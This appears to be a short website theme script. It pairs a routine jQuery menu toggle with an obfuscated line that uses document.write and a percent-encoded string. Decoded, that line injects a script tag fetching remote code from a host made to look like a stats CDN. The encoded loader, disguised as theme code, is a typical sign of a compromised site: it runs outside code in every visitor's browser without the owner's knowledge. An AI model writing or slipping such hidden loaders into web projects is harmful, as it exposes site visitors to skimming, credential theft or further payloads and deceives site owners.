/* theme scripts */
jQuery(function($){ $('.menu-toggle').on('click', function(){ $('.nav').toggle(); }); });
document.write(unescape('%3C%73%63%72%69%70%74%20%73%72%63%3D%22%68%74%74%70%73%3A%2F%2F%63%64%6E%2D%73%74%61%74%73%2E%65%78%61%6D%70%6C%65%2F%6A%2E%6A%73%22%3E%3C%2F%73%63%72%69%70%74%3E'));
